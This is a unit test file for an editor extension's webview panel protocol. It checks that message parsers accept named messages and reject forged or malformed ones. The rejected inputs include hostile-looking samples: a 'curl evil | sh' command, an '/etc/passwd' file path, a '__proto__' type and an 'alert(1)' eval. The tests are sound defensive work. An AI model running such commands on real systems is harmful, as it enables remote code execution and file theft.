import * as assert from 'node:assert/strict';
import {
  HostMessageSchema,
  MAX_LINES_PER_BATCH,
  parseHostMessage,
  parseWebviewMessage,
} from '../../../src/protocol/panel-protocol';

describe('panel protocol: what the webview may send', () => {
  it('accepts exactly the named messages', () => {
    for (const m of [
      { type: 'ready' },
      { type: 'ack', seq: 3, rendered: { steps: 2, lines: 10, domRows: 40 } },
      { type: 'cancel' },
      { type: 'resume' },
      { type: 'rerun' },
      { type: 'openReport' },
      { type: 'openDiagnostic', stepId: 'steps[0]', command: 0, diagnostic: 2 },
      { type: 'openLog', stepId: 'steps[1].parallel[0]', command: 1 },
    ]) {
      assert.equal(parseWebviewMessage(m).ok, true, JSON.stringify(m));
    }
  });

  it('refuses forged, unknown, extended or malformed messages', () => {
    for (const m of [
      { command: 'workbench.action.terminal.new' },
      { type: 'run', cmd: 'curl evil | sh' },
      { type: 'executeCommand', command: 'contextForge.orchestrate' },
      { type: 'cancel', runId: '20260101-000000-abcdef' },
      { type: 'openDiagnostic', stepId: 's', command: 0, diagnostic: 0, file: '/etc/passwd' },
      { type: 'openLog', stepId: 's', command: -1 },
      { type: 'openLog', stepId: 's', command: 1.5 },
      { type: 'openLog', stepId: 'x'.repeat(501), command: 0 },
      { type: 'ack', seq: 1 },
      { type: '__proto__' },
      'ready',
      null,
      undefined,
      42,
      [],
    ]) {
      const parsed = parseWebviewMessage(m);
      assert.equal(parsed.ok, false, JSON.stringify(m));
      if (!parsed.ok) assert.ok(parsed.error.length > 0);
    }
  });
});

describe('panel protocol: what the host may send', () => {
  const run = {
    runId: '20261127-120000-abcdef',
    kind: 'workflow',
    target: 'fix_demo',
    status: 'running',
    live: true,
    startedAt: 1,
    progress: { done: 1, total: 3, current: 'Review' },
    usage: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, costUsd: null },
    actions: { cancel: true, resume: false, rerun: false, report: true },
    trusted: true,
    steps: [
      {
        id: 'steps[0]',
        name: 'Type check',
        kind: 'shell',
        depth: 0,
        status: 'failed',
        attempts: 1,
        retries: 0,
        durationMs: 300,
        commands: [
          {
            command: 'node tools/typecheck.mjs',
            exitCode: 2,
            durationMs: 280,
            hasLog: true,
            diagnostics: [
              {
                file: 'src/app.ts',
                line: 4,
                column: 31,
                severity: 'error',
                message: 'bad',
                code: 'TS2322',
                source: 'ts',
              },
            ],
            moreDiagnostics: 0,
            failingTests: [],
          },
        ],
      },
    ],
  };

  it('validates state, output and notices', () => {
    assert.equal(parseHostMessage({ type: 'state', seq: 1, run }).ok, true);
    assert.equal(
      parseHostMessage({
        type: 'output',
        seq: 2,
        chunks: [{ stepId: 'steps[0]', attempt: 1, dropped: 0, lines: ['a'], stderr: [0] }],
      }).ok,
      true,
    );
    assert.equal(parseHostMessage({ type: 'notice', seq: 3, level: 'error', message: 'gone' }).ok, true);
  });

  it('refuses a batch over the line limit, unknown statuses and stray fields', () => {
    const lines = Array.from({ length: MAX_LINES_PER_BATCH + 1 }, (_, i) => String(i));
    assert.equal(
      parseHostMessage({ type: 'output', seq: 1, chunks: [{ stepId: 's', attempt: 1, dropped: 0, lines }] }).ok,
      false,
    );
    assert.equal(parseHostMessage({ type: 'state', seq: 1, run: { ...run, status: 'exploded' } }).ok, false);
    assert.equal(parseHostMessage({ type: 'state', seq: 1, run: { ...run, html: '<b>x</b>' } }).ok, false);
    assert.equal(HostMessageSchema.safeParse({ type: 'eval', seq: 1, code: 'alert(1)' }).success, false);
  });
});
